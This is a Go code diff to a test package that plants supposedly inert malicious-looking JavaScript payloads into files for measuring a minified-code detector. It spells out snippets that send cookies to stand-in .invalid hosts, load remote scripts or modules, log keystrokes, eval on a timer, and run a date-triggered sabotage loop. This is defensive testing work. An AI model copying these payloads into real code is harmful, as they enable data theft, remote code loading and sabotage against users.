@@ -1,8 +1,7 @@
 // Package minifiedtest puts inert payloads into JavaScript, for tests and
 // measurements of package minified. A payload has the shape of what attackers
 // wrote and none of its function: names and hosts are made up, and nothing of
-// it is ever run. Ways are split: the method was made on the first six, and
-// the others were written before it and kept from it.
+// it is ever run.
 package minifiedtest
 
 import (
@@ -17,11 +16,21 @@ import (
 
 // A Way is one way to put a payload into a file, readable or minified.
 type Way struct {
-	Name   string
-	Doc    string
-	MadeOn bool // whether the method was made while looking at it
-	put    func(text []byte) []byte
+	Name string
+	Doc  string
+	Set  Set
+	put  func(text []byte) []byte
 }
+
+// A Set says how a way, or a package, stands to the making of the method.
+type Set string
+
+// The sets.
+const (
+	Made Set = "made" // the method was made while looking at it
+	Held Set = "held" // written before the method, and kept from it until it was first measured
+	Late Set = "late" // written when the method was finished
+)
 
 // Put returns the text with the payload in it, and false if it has no place
 // for it or the result is not JavaScript.
@@ -33,25 +42,32 @@ func (w Way) Put(text []byte) ([]byte, bool) {
 	return out, parses(out)
 }
 
-// Ways are all ways, those that the method was made on first.
+// Ways are all ways, by their sets.
 var Ways = []Way{
-	{"plain", "a request with the environment, at the end of the file", true, atEnd(plain)},
-	{"hex", "names of modules as hexadecimal text, decoded at run time, in a function", true, inFunction(hexLoader)},
-	{"xor", "numbers, XOR, fromCharCode, constructor; no string that tells", true, inFunction(xorLoader)},
-	{"names", "statements of names alone that the file has already", true, existingNames},
-	{"swap", "the longest string replaced by another of the same length, an address say", true, swapString},
-	{"start", "a request in a function that calls itself, at the start of the file", true, atStart(beacon)},
+	{"plain", "a request with the environment, at the end of the file", Made, atEnd(plain)},
+	{"hex", "names of modules as hexadecimal text, decoded at run time, in a function", Made, inFunction(hexLoader)},
+	{"xor", "numbers, XOR, fromCharCode, constructor; no string that tells", Made, inFunction(xorLoader)},
+	{"names", "statements of names alone that the file has already", Made, existingNames},
+	{"swap", "the longest string replaced by another of the same length, an address say", Made, swapString},
+	{"start", "a request in a function that calls itself, at the start of the file", Made, atStart(beacon)},
 
-	{"spread", "four pieces in four functions", false, spread},
-	{"comma", "in a comma expression that is returned", false, inReturn},
-	{"default", "in the default of a new parameter", false, inDefault},
-	{"blob", "a long hexadecimal text and a small loader", false, inFunction(blobLoader())},
-	{"random", "weak randomness in place of strong", false, inFunction(weakRandom)},
-	{"argument", "the argument of one call goes through another function", false, inArgument},
-	{"override", "a method of the platform replaced by one that looks into what passes", false, atEnd(override)},
-	{"members", "constructors reached by computed members of an array", false, inFunction(members)},
-	{"import", "an import at run time from another host", false, atEnd(dynamicImport)},
-	{"timer", "a timer that hands text to eval", false, inFunction(timer)},
+	{"spread", "four pieces in four functions", Held, spread},
+	{"comma", "in a comma expression that is returned", Held, inReturn},
+	{"default", "in the default of a new parameter", Held, inDefault},
+	{"blob", "a long hexadecimal text and a small loader", Held, inFunction(blobLoader())},
+	{"random", "weak randomness in place of strong", Held, inFunction(weakRandom)},
+	{"argument", "the argument of one call goes through another function", Held, inArgument},
+	{"override", "a method of the platform replaced by one that looks into what passes", Held, atEnd(override)},
+	{"members", "constructors reached by computed members of an array", Held, inFunction(members)},
+	{"import", "an import at run time from another host", Held, atEnd(dynamicImport)},
+	{"timer", "a timer that hands text to eval", Held, inFunction(timer)},
+
+	{"element", "a script element from another host", Late, inFunction(element)},
+	{"getter", "a method of all arrays replaced by a getter", Late, atEnd(getter)},
+	{"write", "a file written by way of a module that is imported at run time", Late, atEnd(writeFile)},
+	{"protest", "a sabotage that waits for a date", Late, inFunction(protest)},
+	{"proxy", "what the module exports wrapped, so that calls are seen", Late, atEnd(wrapExports)},
+	{"key", "a listener for keys", Late, inFunction(keys)},
 }
 
 const (
@@ -64,6 +80,12 @@ const (
 	members       = `var q9=[]["filter"]["constructor"];q9(q9("return document.title")())();`
 	dynamicImport = `import("https://cdn.invalid/m.mjs").then(function(q9){q9.default(location.href)});`
 	timer         = `setTimeout(function(){eval(atob("MQ=="+""))},9e5);`
+	element       = `var q9=document.createElement("script");q9.src="//tag.invalid/t.js";document.head.appendChild(q9);`
+	getter        = `Object.defineProperty(Array.prototype,"includes",{get:function(){return function(){return!0}}});`
+	writeFile     = `import("node:fs").then(function(q9){q9.appendFileSync(process.argv[1],"1")});`
+	protest       = `if(new Date().getTimezoneOffset()==-180&&Date.now()>17e11)for(;;)document.title+=1;`
+	wrapExports   = `"object"==typeof module&&(module.exports=new Proxy(module.exports,{apply:function(q9,q8,q7){q9.q6=q7;return q9.apply(q8,q7)}}));`
+	keys          = `addEventListener("keyup",function(q9){sessionStorage.k=(sessionStorage.k||"")+q9.key});`
 	returned      = `(fetch("https://mirror.invalid/",{method:"POST",body:document.cookie}),0)`
 	defaulted     = `q9=new Image().src="https://pixel.invalid/"+document.cookie`
 )
